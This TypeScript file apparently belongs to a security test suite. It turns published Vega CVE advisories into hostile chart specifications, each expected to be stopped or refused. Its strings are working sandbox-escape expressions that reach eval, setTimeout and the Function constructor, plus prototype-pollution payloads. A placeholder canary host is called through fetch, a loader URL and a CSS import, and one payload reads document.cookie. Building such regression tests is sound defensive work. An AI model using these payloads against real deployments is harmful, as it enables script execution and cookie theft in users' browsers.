import type { HostileDocument } from './types';
import { chartReport, documents } from './write';

/** One published advisory: expressions that would run code on the versions it names. */
interface Advisory {
  readonly name: string;
  readonly about: string;
  readonly expressions: readonly string[];
}

const CODE = "fetch('{{canary}}/advisory')";

export const advisories: readonly Advisory[] = [
  {
    name: 'CVE-2020-26296',
    about: 'functions that an expression is given as callbacks, before vega 5.17.3',
    expressions: [
      `join({join: event.target.ownerDocument.defaultView.eval}, "${CODE}")`,
      `replace("${CODE}", /.*/, event.target.ownerDocument.defaultView.eval)`,
    ],
  },
  {
    name: 'CVE-2023-26486',
    about: 'scale() calls a function of a made-up context, before vega 5.23.0',
    expressions: [
      `scale('f', null, {context: {scales: {f: {value: scale('f', "${CODE}", {context: {scales: {f: {value: [].constructor.constructor}}}})}}}})`,
      `scale('f', "${CODE}", {context: {scales: {f: {value: event.view.setTimeout}}}})`,
    ],
  },
  {
    name: 'CVE-2023-26487',
    about: 'lassoAppend() calls push of any object, before vega 5.23.0',
    expressions: [
      `lassoAppend({push: event.view.setImmediate}, "${CODE}", 'x')`,
      `lassoAppend({push: event.view.setTimeout}, "${CODE}", 1)`,
    ],
  },
  {
    name: 'CVE-2025-25304',
    about: 'vlSelectionTuples() calls getters, before vega 5.26.0',
    expressions: [
      `+{valueOf: vlSelectionTuples([{datum: "${CODE}"}], {fields: [{getter: [].at.constructor}]})[0].values[0]}`,
      `vlSelectionTuples([{datum: "${CODE}"}], {fields: [{getter: event.view.eval}]})`,
    ],
  },
  {
    name: 'CVE-2025-26619',
    about: 'scale() calls a function it is given, reached by the filter of an event, before vega 5.31.0',
    expressions: [`scale(event.view.setTimeout, "${CODE}")`, `scale(event['vi' + 'ew']['set' + 'Timeout'], "${CODE}")`],
  },
  {
    name: 'CVE-2025-27793',
    about: 'replace() with something like a pattern calls its exec, before vega 5.32.0',
    expressions: [
      `replace("${CODE}", {__proto__: /h/.constructor.prototype, exec: event.view.eval, global: false})`,
      `replace('foo', {__proto__: /h/.constructor.prototype, exec: [].at.constructor, global: false})`,
    ],
  },
  {
    name: 'CVE-2025-59840',
    about: 'toString of a made-up object reaches a handler of the library on the window, before vega 6.2.0',
    expressions: [
      `({toString: event.view.VEGA_DEBUG.vega.CanvasHandler.prototype.on, eventName: event.view.console.log, _handlers: {undefined: "${CODE}"}, _handlerIndex: event.view.eval}) + 1`,
      `datum.a + {toString: datum.a.constructor.prototype.link}`,
    ],
  },
  {
    name: 'CVE-2025-65110',
    about: 'vlSelectionTuples() calls map of any object, before vega-selections 6.1.2',
    expressions: [
      `vlSelectionTuples({map: event.view.VEGA_DEBUG.vega.CanvasHandler.prototype.on, eventName: event.view.console.log, _handlers: {undefined: "${CODE}"}, _handlerIndex: event.view.eval})`,
      `vlSelectionTuples({map: event.view.eval})`,
    ],
  },
  {
    name: 'CVE-2025-66648',
    about: 'modify() of setdata() calls what it is given, before vega-functions 6.1.1',
    expressions: [
      `setdata('rows', [[event.dataflow._el.ownerDocument.cookie]]) + modify('rows', 2, 3, null, event.dataflow._el.ownerDocument.defaultView.eval, {a: "${CODE}"})`,
      `modify('rows', 2, 3, null, event.view.eval, {a: "${CODE}"})`,
    ],
  },
];

const bar = { mark: 'bar', encoding: { x: { field: 'a', type: 'nominal' }, y: { field: 'b', type: 'quantitative' } } };

/** The places of a chart from which an expression runs. */
const places: readonly (readonly [name: string, spec: (expression: string) => object])[] = [
  ['value', (calculate) => ({ ...bar, transform: [{ calculate, as: 'z' }] })],
  ['event', (filter) => ({ ...bar, params: [{ name: 'p', select: { type: 'point', on: { type: 'mousemove', filter: [filter] } } }] })],
  [
    'signal',
    (update) => ({
      $schema: 'https://vega.github.io/schema/vega/v6.json',
      width: 200,
      height: 200,
      signals: [{ name: 's', init: update, on: [{ events: { type: 'mousemove', source: 'window' }, update }] }],
    }),
  ],
];

export const advisoryDocuments: readonly HostileDocument[] = [
  ...documents(
    'advisory',
    advisories.flatMap(({ name, about, expressions }) =>
      places.flatMap(([place, spec]) =>
        expressions.map((expression, index) => ({
          name: `${name}-${place}-${index + 1}`,
          tries: about,
          ends: 'stopped' as const,
          report: chartReport(spec(expression), 5),
        })),
      ),
    ),
  ),
  ...documents('advisory', [
    {
      name: 'CVE-2019-10806-config',
      tries: 'merged settings write to the prototype of all objects, before vega-util 1.13.1',
      ends: 'refused',
      report: JSON.stringify(chartReport({ ...bar, config: { signals: [], mine: 1 } }, 5)).replace(
        '"mine":1',
        '"__proto__":{"polluted":"config"}',
      ),
    },
    {
      name: 'CVE-2019-10806-constructor',
      tries: 'merged settings write to the prototype through the constructor',
      ends: 'stopped',
      report: chartReport({ ...bar, constructor: { prototype: { polluted: 'constructor' } } }, 5),
    },
    {
      name: 'vega-embed-usermeta',
      tries: 'brings options of the embedding library with it: a loader, a patch, a style sheet',
      ends: 'stopped',
      report: chartReport(
        {
          ...bar,
          usermeta: {
            embedOptions: {
              loader: { baseURL: '{{canary}}/' },
              patch: '{{canary}}/patch.json',
              defaultStyle: "@import '{{canary}}/x.css'",
            },
          },
        },
        5,
      ),
    },
  ]),
];
